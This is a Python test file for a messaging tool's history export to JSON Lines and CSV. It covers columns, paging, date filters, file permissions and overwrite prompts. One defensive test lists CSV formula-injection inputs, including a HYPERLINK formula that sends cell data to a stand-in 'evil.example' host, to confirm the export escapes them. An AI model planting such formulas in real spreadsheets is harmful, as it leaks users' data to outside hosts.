"""The record is exported whole and safely: as lines of JSON, and as a table without formulas."""

import csv
import io
import json
import os
import stat
from pathlib import Path
from typing import Any

import anyio
import pytest
from click.testing import Result

from bulkvs_mcp.messaging.history import export
from bulkvs_mcp.provider.simulator.app import FAILING_RECIPIENT, Simulator

from ...helpers.server.processes import COMMAND, environment
from ...helpers.server.recorded import ALICE, MONDAY, OURS, invoked, receive
from ...helpers.server.terminal import on_terminal
from ...helpers.support import call, in_process
from ...helpers.systems import MODES, POSIX

COLUMNS = [
    "message_id",
    "direction",
    "at",
    "number",
    "our_number",
    "group_with",
    "text",
    "parts_missing",
    "media",
    "status",
    "delivery",
    "delivery_code",
    "delivery_at",
    "looks_like_opt_out",
    "error",
]


def exported(*arguments: str) -> list[dict[str, Any]]:
    """The lines of a JSON Lines export."""
    result = invoked("export", "--format", "jsonl", *arguments)
    assert (result.exit_code, result.stderr) == (0, "")
    return [json.loads(line) for line in result.stdout.splitlines()]


def table(result: Result) -> list[dict[str, str]]:
    assert (result.exit_code, result.stderr) == (0, "")
    # A result's own text has other line ends.
    return list(csv.DictReader(io.StringIO(result.stdout_bytes.decode(), newline="")))


async def _texts_both_ways(url: str) -> None:
    async with in_process(Simulator(), store=url) as client:
        await call(client, "send_message", to=[ALICE, FAILING_RECIPIENT], message="Your table is ready")


def test_every_message_and_person_is_a_line(url: str) -> None:
    anyio.run(_texts_both_ways, url)
    receive(url, "Please stop texting me", MediaURLs=["https://m.example/1.jpg", "https://m.example/2.jpg"])
    *sent, received = exported()
    assert received.pop("message_id").startswith("in_")
    assert received == {
        "direction": "inbound",
        "at": "2027-01-15T08:00:00.000Z",
        "number": ALICE,
        "our_number": OURS,
        "text": "Please stop texting me",
        "media": ["https://m.example/1.jpg", "https://m.example/2.jpg"],
        "status": "received",
        "looks_like_opt_out": True,
    }
    assert {(line["direction"], line["number"], line["status"]) for line in sent} == {
        ("outbound", ALICE, "sent"),
        ("outbound", FAILING_RECIPIENT, "failed"),
    }
    [code] = [line["error"]["code"] for line in sent if "error" in line]
    assert {row["error"] for row in table(invoked("export"))} == {"", code}


def test_a_text_that_is_not_whole_says_so(url: str) -> None:
    receive(url, "", MediaURLs=["https://m.example/1.jpg", "https://m.example/1.txt"])
    [line], [row] = exported(), table(invoked("export"))
    assert (line["text"], line["parts_missing"], row["parts_missing"]) == ("", 1, "1")


@pytest.mark.parametrize(
    ("ours", "found"),
    [
        (OURS, {"our_number": OURS, "group_with": ["13125551213", "13125551214"]}),
        ("", {"group_with": ["13125551213", OURS, "13125551214"]}),
    ],
)
def test_a_group_is_no_number_of_ours(
    url: str, monkeypatch: pytest.MonkeyPatch, ours: str, found: dict[str, Any]
) -> None:
    monkeypatch.setenv("BULKVS_FROM", ours)
    receive(url, "Dinner?", To=["13125551213", OURS, "13125551214"])
    [line] = exported()
    assert {name: line[name] for name in ("our_number", "group_with") if name in line} == found
    [row] = table(invoked("export"))
    assert (row["our_number"], row["group_with"]) == (ours, " ".join(found["group_with"]))


def test_a_table_says_the_same(url: str) -> None:
    receive(url, 'Hello, you\nthere "friend" 👋', MediaURLs=["https://m.example/1.jpg", "https://m.example/2.jpg"])
    result = invoked("export")
    [row] = table(result)
    assert list(row) == COLUMNS
    assert row["text"] == 'Hello, you\nthere "friend" 👋'
    assert row["media"] == "https://m.example/1.jpg https://m.example/2.jpg"
    assert (row["number"], row["status"], row["delivery"], row["looks_like_opt_out"]) == (
        ALICE,
        "received",
        "",
        "",
    )


@pytest.mark.parametrize(
    "words",
    [
        '=HYPERLINK("https://evil.example?"&A1)',
        "+1+1",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "\u00a0=1+1",
        "\x00=1+1",
        "\uff1d1+1",
        "\uff0b1",
        "\uff0d1",
        "\uff20SUM(A1)",
    ],
)
def test_no_cell_is_a_formula(url: str, words: str) -> None:
    receive(url, words)
    [row] = table(invoked("export"))
    assert row["text"] == f"'{words}"
    assert exported()[0]["text"] == words


@pytest.mark.parametrize("words", ["Hello = you", "1+1=2", "a@b.example", "'quoted'", "5 - 3", "", " "])
def test_other_cells_are_as_they_were(url: str, words: str) -> None:
    receive(url, words)
    [row] = table(invoked("export"))
    assert row["text"] == words


def test_all_pages_in_their_order(url: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(export, "PAGE", 3)
    receive(url, *(f"Text {number}" for number in range(5)))
    # All in one moment: the page must not end between them.
    receive(url, *(f"Text {number}" for number in range(5, 12)), at=MONDAY + 60_000, step=0)
    listed = exported()
    assert sorted(line["text"] for line in listed) == sorted(f"Text {number}" for number in range(12))
    assert [line["at"] for line in listed] == sorted(line["at"] for line in listed)


@pytest.mark.parametrize(
    ("since", "texts"),
    [
        ("2027-01-15T08:00:00Z", ["Text 0", "Text 1"]),
        ("2027-01-15T08:00:00.5Z", ["Text 1"]),
        ("2027-01-15T09:00:01+01:00", ["Text 1"]),
        ("2027-01-16", []),
    ],
)
def test_only_since_then(url: str, since: str, texts: list[str]) -> None:
    receive(url, "Text 0", "Text 1")
    assert [line["text"] for line in exported("--since", since)] == texts


@MODES
def test_a_file_is_its_owner_s(url: str, tmp_path: Path) -> None:
    receive(url, "Hello")
    file = tmp_path / "texts.csv"
    umask = os.umask(0)
    try:
        result = invoked("export", str(file))
    finally:
        os.umask(umask)
    assert (result.exit_code, result.stdout, result.stderr) == (0, "", f"Written: 1 message(s) to {file}.\n")
    assert stat.S_IMODE(file.stat().st_mode) == 0o600
    assert file.read_bytes() == invoked("export").stdout_bytes
    assert b"\r" not in file.read_bytes()


def test_a_file_that_is_there_is_not_lost(url: str, tmp_path: Path) -> None:
    receive(url, "Hello")
    file = tmp_path / "texts.csv"
    file.write_text("mine", "utf-8")
    refused = invoked("export", str(file))
    assert (refused.exit_code, refused.stderr) == (
        2,
        f"Error: Nothing was written: {file} exists. Add --force to overwrite it.\n",
    )
    assert file.read_text("utf-8") == "mine"
    assert invoked("export", "--force", str(file)).exit_code == 0
    assert "Hello" in file.read_text("utf-8")


@POSIX
@pytest.mark.parametrize(("answer", "lost"), [(b"n\n", False), (b"y\n", True), (b"\n", False)])
def test_at_a_terminal_somebody_is_asked(url: str, tmp_path: Path, answer: bytes, lost: bool) -> None:
    receive(url, "Hello")
    file = tmp_path / "texts.csv"
    file.write_text("mine", "utf-8")
    command = [COMMAND, "export", str(file)]
    code, shown = on_terminal(command, environment(tmp_path, BULKVS_STORE=url), answer)
    assert "exists. Overwrite it?" in shown
    assert (code == 0, "Hello" in file.read_text("utf-8")) == (lost, lost)


@pytest.mark.parametrize(
    ("arguments", "code", "complaint"),
    [
        (["--format", "xml"], 2, "'xml' is not one of"),
        (["--since", "yesterday"], 2, "not an ISO 8601"),
        (["/nowhere/at/all.csv"], 2, "Cannot write /nowhere/at/all.csv"),
    ],
)
def test_what_cannot_be_exported(url: str, arguments: list[str], code: int, complaint: str) -> None:
    receive(url, "Hello")
    result = invoked("export", *arguments)
    assert (result.exit_code, result.stdout) == (code, "")
    assert complaint in result.stderr


@pytest.mark.parametrize(("since", "code"), [("9999-12-31T23:59:59-23:59", 2), ("9999-12-31", 0)])
def test_a_moment_however_far_away_is_one_or_refused(url: str, since: str, code: int) -> None:
    receive(url, "Hello")
    done = invoked("export", "--since", since)
    assert (done.exit_code, isinstance(done.exception, SystemExit | None)) == (code, True)
